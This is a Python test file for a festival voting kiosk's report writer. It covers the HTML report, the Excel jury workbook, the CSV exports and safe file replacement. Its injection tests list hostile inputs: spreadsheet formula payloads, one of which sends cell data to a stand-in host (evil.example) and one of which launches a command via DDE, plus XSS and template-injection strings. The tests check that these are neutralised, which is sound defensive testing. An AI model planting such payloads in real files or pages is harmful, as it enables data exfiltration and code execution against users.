"""report.html, the jury workbook and the CSV files."""

from __future__ import annotations

import csv
import errno
import json
import re
import sqlite3
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kiosk.results.analysis.figures import load_report_figures
from kiosk.results.report.html import render_report
from kiosk.results.report.write import write_report


def test_report_is_offline_printable_and_indonesian_first(
    tmp_path: Path, demo_merged: Path
) -> None:
    write_report(demo_merged, tmp_path)
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert '<html lang="id">' in html
    assert "<script" not in html and not re.search(r"(src|href)=\"https?:", html)
    assert "@page { size: A4" in html and "@media print" in html
    assert html.count("<svg") >= 3
    assert "Peringkat pilihan pengunjung" in html and "People&#39;s choice ranking" in html
    assert "Aturan seri" in html and "Tie rule" in html


def test_workbook_has_one_sheet_per_table_for_the_jury(tmp_path: Path, demo_merged: Path) -> None:
    write_report(demo_merged, tmp_path)
    book = load_workbook(tmp_path / "hasil-festival.xlsx", read_only=True)
    assert book.sheetnames == [
        "Peringkat",
        "Per OPD",
        "Per inovasi",
        "Komentar",
        "Anomali",
        "Tidak dihitung",
        "SKM",
        "SKM unsur",
        "SKM responden",
        "SKM saran",
        "Sumber",
    ]
    ranking = list(book["Peringkat"].iter_rows(values_only=True))
    assert ranking[0][:3] == (
        "Peringkat / Rank",
        "Kode inovasi / Innovation code",
        "Inovasi / Innovation",
    )
    assert ranking[1][0] == 1
    for sheet in book.worksheets:  # every header in words, none a bare column name
        names = [c.value for c in next(sheet.iter_rows(max_row=1))]
        assert all(
            " / " in str(n) or str(n).isupper() or str(n).startswith(("NRR", "No.")) for n in names
        ), (sheet.title, names)
    book.close()


def test_csv_files_match_the_ranking_table(tmp_path: Path, demo_merged: Path) -> None:
    import sqlite3

    write_report(demo_merged, tmp_path)
    with open(tmp_path / "ranking.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    conn = sqlite3.connect(demo_merged)
    expected = conn.execute(
        "SELECT innovation_slug, valid_votes FROM ranking ORDER BY rank"
    ).fetchall()
    assert [(r["innovation_slug"], int(r["valid_votes"])) for r in rows] == expected
    for name in ("agencies", "innovations", "comments", "anomalies", "excluded", "sources"):
        header = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig").splitlines()[0]
        assert header


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_no_cell_of_the_csv_files_or_the_workbook_runs_as_a_formula(tmp_path: Path) -> None:
    from kiosk.booth import Booth
    from kiosk.domain.clock import ManualClock
    from kiosk.results.collect import merge_kiosk_files
    from tests.helpers import make_booth_db
    from tests.results.kiosks import OPENING, visit

    db = make_booth_db(tmp_path / "booth.sqlite")
    booth = Booth(db, "DPUPR", ManualClock(OPENING))
    for payload in PAYLOADS:
        slug = booth.innovations[0].slug
        visit(booth, booth.clock, [slug], rating=2, comment=payload)  # type: ignore[arg-type]
    db.close()
    out = tmp_path / "festival.sqlite"
    merge_kiosk_files(out, [tmp_path / "booth.sqlite"], workers=1)
    report = tmp_path / "laporan"
    write_report(out, report)
    with open(report / "comments.csv", encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    for payload in PAYLOADS:  # (the booth strips a comment's surrounding whitespace)
        assert "'" + payload.strip() in cells  # shown as text, never run
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]
    workbook = load_workbook(report / "hasil-festival.xlsx")
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}"]


class _Page(HTMLParser):
    """The page as a browser builds it: its tags, attributes and text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_hostile_titles_and_comments_are_shown_as_text(demo_merged: Path) -> None:
    figures = load_report_figures(demo_merged)
    first = figures.ranking[0]
    slug, agency = first["innovation_slug"], first["agency_code"]
    first["title"] = HOSTILE[0]  # the ranking table and its chart
    for row in figures.innovations:
        if row["innovation_slug"] == slug:
            row["title"] = HOSTILE[1]  # the agency's page
    for payload in HOSTILE:
        comment = {"agency_code": agency, "innovation_slug": slug, "comment": payload}
        figures.comments.insert(0, {**comment, "rating": 4, "recorded_at": "2099-01-01"})
    figures.sources[0]["path"] = HOSTILE[2]
    page = _Page()
    page.feed(render_report(figures))
    assert "script" not in page.tags and "img" not in page.tags
    assert not [name for name, _ in page.attrs if name.startswith("on")]
    text = "".join(page.text)
    for payload in HOSTILE:
        assert text.count(payload) >= 2  # shown as typed (title or path, and a comment)


def _folder(path: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(path.iterdir()) if p.is_file()}


def test_a_report_whose_workbook_step_fails_leaves_the_earlier_report(
    tmp_path: Path, demo_merged: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kiosk.results.report import write

    write_report(demo_merged, tmp_path)
    (tmp_path / "report.html").write_text("the earlier report")
    before = _folder(tmp_path)

    def full_disk(figures: object, path: Path) -> Path:
        path.write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(write, "write_workbook", full_disk)  # the disk fills at the workbook
    with pytest.raises(OSError, match="No space"):
        write_report(demo_merged, tmp_path)
    assert _folder(tmp_path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(before)  # no stage left


def test_a_move_that_fails_puts_the_earlier_report_back(tmp_path: Path, demo_merged: Path) -> None:
    write_report(demo_merged, tmp_path)
    (tmp_path / "report.html").write_text("the earlier report")
    (tmp_path / "ranking.csv").unlink()
    (tmp_path / "ranking.csv").mkdir()  # a folder in the way: moving a file onto it fails
    before = _folder(tmp_path)
    with pytest.raises(IsADirectoryError):  # after report.html and the workbook were moved
        write_report(demo_merged, tmp_path)
    assert _folder(tmp_path) == before
    assert (tmp_path / "ranking.csv").is_dir()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*before, "ranking.csv"])


def test_a_new_report_leaves_none_of_an_earlier_reports_files(tmp_path: Path, stick: Path) -> None:
    from kiosk.results.collect import merge_kiosk_files

    festival = tmp_path / "festival.sqlite"
    merge_kiosk_files(festival, [stick], workers=1)
    out = tmp_path / "laporan"
    out.mkdir()
    (out / "skm-suggestions.csv").write_text("an earlier festival's survey")
    (out / "catatan.txt").write_text("the organizers' own notes")
    written = {p.name for p in write_report(festival, out)}
    assert "skm.csv" not in written  # this festival ran no survey
    assert {p.name for p in out.iterdir()} == written | {"catatan.txt"}


def test_every_file_a_report_writes_is_one_it_knows(tmp_path: Path, demo_merged: Path) -> None:
    from kiosk.results.report.write import REPORT_FILES

    assert {p.name for p in write_report(demo_merged, tmp_path)} == REPORT_FILES  # SKM too


def test_anomalies_are_timed_in_the_festivals_local_time(demo_merged: Path) -> None:
    from datetime import datetime
    from zoneinfo import ZoneInfo

    figures = load_report_figures(demo_merged)
    anomaly = figures.anomalies[0]
    zone = ZoneInfo(str(figures.festival["timezone"]))
    local = datetime.fromisoformat(anomaly["started_at"]).astimezone(zone)
    assert local.utcoffset()  # the demo festival is not in UTC: the test tells them apart
    html = render_report(figures)
    section = html[html.index('id="anomalies"') : html.index('id="per-agency"')]
    assert "Waktu setempat" in section
    assert f"<td>{local:%d-%m %H:%M}</td>" in section


def test_votes_by_card_place_match_the_order_each_visit_was_shown(
    tmp_path: Path, demo_merged: Path
) -> None:
    figures = load_report_figures(demo_merged)
    conn = sqlite3.connect(demo_merged)
    starts = {  # sessions written by hand in the demo festival have no order: left out
        (k, s): json.loads(d).get("order")
        for k, s, d in conn.execute(
            "SELECT kiosk_id, session_id, data FROM visitor_records WHERE kind = 'session_start'"
        )
    }
    counted: Counter[tuple[int, int]] = Counter()
    for kiosk, session, slug, agency in conn.execute(
        "SELECT v.kiosk_id, v.session_id, v.innovation_slug, k.agency_code FROM visitor_records v"
        " JOIN kiosks k USING (kiosk_id) WHERE v.kind = 'vote'"
    ):
        order = starts.get((kiosk, session))
        if not order or slug not in order:
            continue
        cards = conn.execute(
            "SELECT count(*) FROM innovations WHERE agency_code = ?", [agency]
        ).fetchone()[0]
        counted[(cards, order.index(slug) + 1)] += 1
    conn.close()
    assert {(p["cards"], p["position"]): p["votes"] for p in figures.positions} == dict(counted)
    assert len({p["position"] for p in figures.positions}) >= 2  # the order did rotate
    write_report(demo_merged, tmp_path)
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "Suara menurut letak kartu" in html and "Votes by card position" in html
